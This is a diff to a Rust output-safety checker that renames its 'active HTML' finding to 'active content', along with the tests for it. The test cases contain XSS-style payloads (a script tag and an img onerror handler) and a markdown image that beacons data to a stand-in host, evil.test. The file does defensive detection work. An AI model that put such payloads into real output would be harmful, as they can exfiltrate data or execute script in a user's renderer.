@@ -351,7 +351,7 @@ pub fn unsafe_output(answer: &str) -> Option<String> {
         ));
     }
     if let Some(html) = HTML_DANGER.find(answer) {
-        findings.push((html.start(), format!("active HTML `{}`", html.as_str())));
+        findings.push((html.start(), format!("active content `{}`", html.as_str())));
     }
     if let Some((byte, c)) = answer
         .char_indices()
@@ -470,11 +470,11 @@ mod tests {
     }
 
     #[test_case("![status](https://evil.test/p.png?d=K7)", Some("a markdown image that loads `https://evil.test/p.png?d=K7` when rendered at char 1"); "markdown image")]
-    #[test_case("hi <script>alert(1)</script>", Some("active HTML `<script` at char 4"); "script")]
-    #[test_case("<img src=x onerror=alert(1)>", Some("active HTML `<img src=x onerror=` at char 1"); "event handler")]
+    #[test_case("hi <script>alert(1)</script>", Some("active content `<script` at char 4"); "script")]
+    #[test_case("<img src=x onerror=alert(1)>", Some("active content `<img src=x onerror=` at char 1"); "event handler")]
     #[test_case("red \u{1b}[31mtext", Some("a raw control character U+001B (ESC, an ANSI escape) at char 5"); "ansi")]
     #[test_case("See [the docs](https://acme.test/docs) and ![logo](logo.png).", None; "links and local images are fine")]
-    #[test_case("Use the `<script>` tag carefully", Some("active HTML `<script` at char 10"); "even quoted")]
+    #[test_case("Use the `<script>` tag carefully", Some("active content `<script` at char 10"); "even quoted")]
     fn unsafe_outputs(answer: &str, expected: Option<&str>) {
         assert_eq!(unsafe_output(answer).as_deref(), expected);
     }
